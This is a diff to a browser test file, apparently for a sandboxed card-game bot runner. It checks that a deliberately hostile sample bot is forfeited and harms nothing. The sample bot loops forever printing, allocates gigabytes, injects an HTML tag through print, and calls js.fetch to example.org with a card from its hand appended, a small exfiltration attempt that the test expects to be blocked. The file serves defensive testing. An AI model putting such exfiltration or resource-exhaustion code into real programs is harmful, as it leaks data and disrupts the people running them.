@@ -31,7 +31,7 @@ def comp10001huxxy_play(history, player, hand, table):
         while True:
             print("x" * (1 << 20))
     if player == 2:
-        import js
+        print("<b>asks</b>"); import js
         from pyodide.ffi import run_sync
         return js.fetch("https://example.org/?" + hand[0])
     return bytearray(1 << 30)
@@ -62,6 +62,9 @@ def test_a_hostile_bot_forfeits_its_games_and_harms_nothing(page: Page) -> None:
     page.click("#place-bots")
     expect(page.locator("#bot-hint")).to_contain_text("comp10001huxxy_play is missing")
     assert axe.faults(page) == []
+    page.fill("#bot-text", HOSTILE.replace("table):", "table:"))
+    expect(page.locator("#bot-hint")).to_contain_text("cannot play. SyntaxError: ", timeout=60_000)
+    expect(page.locator("#run-games")).to_be_disabled()
     page.fill("#bot-text", HOSTILE)
     expect(page.locator("#bot-hint")).to_contain_text("comp10001huxxy_play found")
     page.fill("#bot-games", "4")
@@ -73,6 +76,7 @@ def test_a_hostile_bot_forfeits_its_games_and_harms_nothing(page: Page) -> None:
     assert page.locator(".fft span").all_inner_texts() == [*REASONS]
     page.click("#forfeit-2")
     expect(page.locator(".flop")).to_contain_text("AttributeError: fetch")
+    expect(page.locator(".printed pre")).to_have_text("<b>asks</b>")
     page.click("#play-back")
     assert (axe.faults(page), widths.cut(page), met.untested(page)) == ([], [], [])
     with page.expect_download() as download:
